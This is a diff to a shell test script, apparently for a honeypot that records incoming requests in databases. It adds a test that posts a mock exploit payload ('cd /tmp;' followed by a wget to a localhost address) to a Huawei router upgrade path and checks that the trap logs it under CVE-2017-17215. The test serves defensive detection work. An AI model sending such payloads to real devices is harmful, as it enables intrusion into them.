@@ -50,6 +50,9 @@ s.sendall(b"GET /nul\x00path?q\x00%s HTTP/1.1\r\nHost: x\r\nUser-Agent: ch-nul\x
           b"Connection: close\r\n\r\n" % (sys.argv[2].encode(), sys.argv[2].encode()))
 s.recv(65536)' "$PORT" "$1"
 	wait_sql "SELECT COUNT(*) FROM requests WHERE hex(user_agent) = hex('ch-nul' || char(0) || '$1')" 1
+	# an exploit attempt with a NUL and bytes that are not UTF-8 in its payload
+	printf 'cd /tmp;\0wget http://127.0.0.1:9/x\xff\xfe' |
+		curl -s -o /dev/null --data-binary @- "$BASE/ctrlt/DeviceUpgrade_1?$1"
 	stream_frame "$BASE/axis-cgi/mjpg/video.cgi" "$TMP/f-$1.jpg" -A "ch-watch-$1"
 	wait_sql "SELECT COUNT(*) FROM views WHERE user_agent = 'ch-watch-$1' AND trap_password IS NOT NULL" 1
 	local u p
@@ -60,6 +63,7 @@ s.recv(65536)' "$PORT" "$1"
 }
 traffic a
 check "rows reach ClickHouse" wait_ch "SELECT count() FROM fleet.requests WHERE user_agent = 'ch-a-30'" 1
+check "exploit rows reach ClickHouse" wait_ch "SELECT count() FROM fleet.exploits WHERE rule = 'huawei-cve-2017-17215'" 1
 
 # kill -9 mid-run, then the same database again
 kill -KILL "$DECOY_PID"
